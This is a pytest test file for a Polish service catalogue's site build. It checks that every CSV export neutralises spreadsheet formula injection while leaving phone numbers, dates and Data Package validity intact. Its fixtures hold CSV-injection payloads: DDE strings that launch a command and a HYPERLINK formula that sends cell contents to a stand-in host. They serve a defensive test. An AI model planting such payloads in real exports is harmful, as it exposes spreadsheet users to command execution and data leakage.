"""Issue 10, defect 20: no CSV the build writes hands a spreadsheet a formula (OWASP CSV injection).

Record text starting with = + - @ (or a tab or a carriage return) is written with a leading
apostrophe in every CSV of the site; numbers, dates and phone numbers stay as they are, and the
Data Packages stay valid.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from frictionless import Package
from records import copy_mini, edit
from sitekit import run_pelican

from cus_catalogue.csvcells import cell_text

FORMULAS = {
    "name": '=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")',
    "summary": "+cmd|' /C calc'!A0 – usługa dla każdego mieszkańca",
    "limits": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hours_note": "-2+3+cmd|' /C calc'!A0",
    "eligibility": "\t=1+1 wszyscy",
}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The mini catalogue with formulas in its texts, built two years on (so every record is
    in the freshness report too)."""
    root = tmp_path_factory.mktemp("csv")
    mini = copy_mini(root / "mini")
    service = mini / "services" / "zlota-raczka.yaml"
    text = service.read_text(encoding="utf-8")
    name = next(line for line in text.splitlines() if line.startswith("name: "))
    edit(service, name + "\n", f"name: '{FORMULAS['name']}'\n")
    summary = next(line for line in text.splitlines() if line.startswith("summary: "))
    edit(service, summary + "\n", f'summary: "{FORMULAS["summary"]}"\n')
    edit(
        service,
        "limits: 4 usługi w roku, każda najwyżej 2 godziny",
        f'limits: "{FORMULAS["limits"]}"',
    )
    edit(service, "unit: godzina\n", f'unit: godzina\nhours_note: "{FORMULAS["hours_note"]}"\n')
    eligibility = next(line for line in text.splitlines() if line.startswith("  text: "))
    edit(service, eligibility + "\n", '  text: "\\t=1+1 wszyscy"\n')
    edit(
        mini / "providers" / "fundacja-pomocna-dlon.yaml",
        "name: Fundacja Pomocna Dłoń",
        "name: '@Fundacja Pomocna Dłoń'",
    )
    output = root / "site"
    result = run_pelican(mini, output, CATALOGUE_TODAY="2029-01-15")
    assert result.returncode == 0, result.stdout + result.stderr
    return output


def cells(site: Path) -> list[tuple[str, str]]:
    """(file, cell) for every cell of every CSV the build wrote."""
    found = []
    for path in sorted(site.rglob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as table:
            for row in csv.reader(table):
                found += [(path.relative_to(site).as_posix(), cell) for cell in row]
    return found


def test_defect_20_no_csv_cell_starts_a_formula(hostile_site: Path) -> None:
    written = cells(hostile_site)
    files = {file for file, _cell in written}
    assert {"dane/katalog/services.csv", "dane/hsds/tabular/services.csv"} <= files
    assert "dla-pracownikow/aktualnosc.csv" in files
    dangerous = [
        (file, cell)
        for file, cell in written
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell_text(cell) != cell
    ]
    assert dangerous == []
    texts = {cell for _file, cell in written}
    for value in FORMULAS.values():
        assert "'" + value in texts, value
    assert "'@Fundacja Pomocna Dłoń" in texts


def test_numbers_dates_and_phone_numbers_are_not_mangled(hostile_site: Path) -> None:
    with (hostile_site / "dane" / "katalog" / "providers.csv").open(encoding="utf-8") as table:
        provider = next(csv.DictReader(table))
    assert provider["phone"] == "+48 91 000 11 22"
    assert provider["last_verified"] == "2026-06-01"
    with (hostile_site / "dane" / "katalog" / "services.csv").open(encoding="utf-8") as table:
        services = {row["id"]: row for row in csv.DictReader(table)}
    assert services["zlota-raczka"]["fee_amount"] == "25"
    assert [cell_text(v) for v in (-12.5, 0, "-5", "+48 91 000 11 22", "2026-01-02", True)] == [
        "-12.5",
        "0",
        "-5",
        "+48 91 000 11 22",
        "2026-01-02",
        "true",
    ]


@pytest.mark.parametrize(
    "descriptor", ["dane/katalog/datapackage.json", "dane/hsds/tabular/datapackage.json"]
)
def test_the_data_packages_stay_valid(hostile_site: Path, descriptor: str) -> None:
    report = Package(str(hostile_site / descriptor)).validate()
    errors = [f"{t.name}: {e.message}" for t in report.tasks for e in t.errors]
    assert errors + [e.message for e in report.errors] == []
